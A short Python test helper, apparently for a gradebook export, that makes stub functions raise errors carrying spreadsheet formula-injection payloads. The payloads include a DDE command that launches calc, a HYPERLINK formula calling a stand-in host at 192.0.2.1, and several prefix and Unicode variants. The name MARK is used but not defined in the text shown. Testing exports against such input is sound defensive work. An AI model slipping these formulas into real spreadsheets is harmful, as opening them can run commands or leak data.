"""Idea: texts that begin with =, +, -, @ or a tab are formulas where a gradebook is opened.
Must: be in no gradebook, which holds numbers and sentences of ours.
"""

import itertools

turn = itertools.cycle(
    [
        f"=cmd|'/c calc {MARK}'!A1",
        f'=HYPERLINK("http://192.0.2.1/{MARK}","100")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        '"\n=1+1,,,100',
        "|calc",
        "=1+1;=2+2",
        "'=1+1",
        "\uff1d1+1",
    ]
)


def forge(name):
    def answer(*given, **named):
        raise ValueError(next(turn))

    return answer
